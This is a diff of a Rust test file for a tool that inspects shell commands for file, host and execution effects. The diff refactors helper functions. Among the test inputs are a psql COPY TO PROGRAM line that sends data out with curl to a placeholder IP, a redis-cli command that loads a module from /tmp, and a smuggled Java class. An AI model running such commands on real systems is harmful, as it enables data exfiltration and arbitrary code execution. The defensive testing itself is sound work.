@@ -1,37 +1,9 @@
 //! Ordinary short code and ordinary statements that are read to their end, beside what looks like them and goes beyond.
 
-use countersign_inspect::{Context, FindingKind, Inspection};
-use countersign_plan::inspection::Subject;
+use countersign_inspect::FindingKind;
 use countersign_plan::tool::{Effect, TargetKind};
 
-fn inspect(line: &str) -> Inspection {
-    let context = Context::new("/home/user/project", "/home/user");
-    countersign_inspect::inspect(&Subject::Shell { line: line.to_owned(), context })
-}
-
-fn finds(kind: FindingKind, attacks: &[&str], ordinary: &[&str]) {
-    for line in attacks {
-        assert!(inspect(line).found(kind), "{line}: {:#?}", inspect(line));
-    }
-    for line in ordinary {
-        assert!(!inspect(line).found(kind), "{line}: {:#?}", inspect(line));
-    }
-}
-
-/// The first are understood, the others are not.
-fn reads(ordinary: &[&str], beyond: &[&str]) {
-    for line in ordinary {
-        assert!(inspect(line).unknowns.is_empty(), "{line}: {:#?}", inspect(line));
-    }
-    for line in beyond {
-        assert!(!inspect(line).unknowns.is_empty(), "{line}: {:#?}", inspect(line));
-    }
-}
-
-fn touches(line: &str, effect: Effect, name: &str) -> bool {
-    let file = |kind: TargetKind| matches!(kind, TargetKind::File | TargetKind::Directory);
-    inspect(line).touches.iter().any(|touch| touch.effect == effect && file(touch.kind) && touch.name == name)
-}
+use crate::seen::{finds, inspect, reads, touches_file};
 
 #[test]
 fn python_that_only_computes_or_writes_what_it_names() {
@@ -84,7 +56,11 @@ fn python_that_only_computes_or_writes_what_it_names() {
             "python3 -c 'from pathlib import Path\nfor x in [1]: (Path(\"{place}\") / f\"{{x}}.json\").write_text(\"1\")'"
         )
     };
-    assert!(touches(&each("out"), Effect::Update, "/home/user/project/out/*.json"), "{:#?}", inspect(&each("out")));
+    assert!(
+        touches_file(&each("out"), Effect::Update, "/home/user/project/out/*.json"),
+        "{:#?}",
+        inspect(&each("out"))
+    );
     reads(&[&each("out")], &[&each(".vscode"), &each("/etc")]);
 }
 
@@ -181,7 +157,7 @@ fn blocks_of_statements_are_read() {
     );
     let sends = inspect("psql -c \"\\\\copy t TO PROGRAM 'curl -d @- http://203.0.113.4/'\"");
     assert!(sends.touches.iter().any(|touch| touch.kind == TargetKind::Host), "{sends:#?}");
-    assert!(touches("redis-cli module load /tmp/x.so", Effect::Execute, "/tmp/x.so"));
+    assert!(touches_file("redis-cli module load /tmp/x.so", Effect::Execute, "/tmp/x.so"));
 }
 
 #[test]
@@ -190,9 +166,9 @@ fn a_source_of_java_takes_along_what_lies_beside_it() {
     let own = format!("mkdir /tmp/a && echo '{source}' > /tmp/a/A.java && java /tmp/a/A.java");
     let shared = format!("echo '{source}' > /tmp/A.java && java /tmp/A.java");
     assert!(!inspect(&own).touches.iter().any(|touch| touch.effect == Effect::Execute), "{:#?}", inspect(&own));
-    assert!(touches(&shared, Effect::Execute, "/tmp"), "{:#?}", inspect(&shared));
+    assert!(touches_file(&shared, Effect::Execute, "/tmp"), "{:#?}", inspect(&shared));
     let beside = "mkdir /tmp/a && echo 'class A {}' > /tmp/a/A.java && echo 'class B { static { Runtime.getRuntime(); } }' > /tmp/a/B.java && java /tmp/a/A.java";
-    assert!(touches(beside, Effect::Execute, "/tmp/a/B.java"), "{:#?}", inspect(beside));
+    assert!(touches_file(beside, Effect::Execute, "/tmp/a/B.java"), "{:#?}", inspect(beside));
 }
 
 #[test]
@@ -214,7 +190,11 @@ fn documents_are_written_where_python_says() {
         ("import fileinput\nfor l in fileinput.input(\"/srv/a\"): print(l)", Effect::Read, "/srv/a"),
     ] {
         let line = format!("python3 -c '{code}'");
-        assert!(touches(&line, effect, name) && inspect(&line).unknowns.is_empty(), "{line}: {:#?}", inspect(&line));
+        assert!(
+            touches_file(&line, effect, name) && inspect(&line).unknowns.is_empty(),
+            "{line}: {:#?}",
+            inspect(&line)
+        );
     }
     reads(
         &[
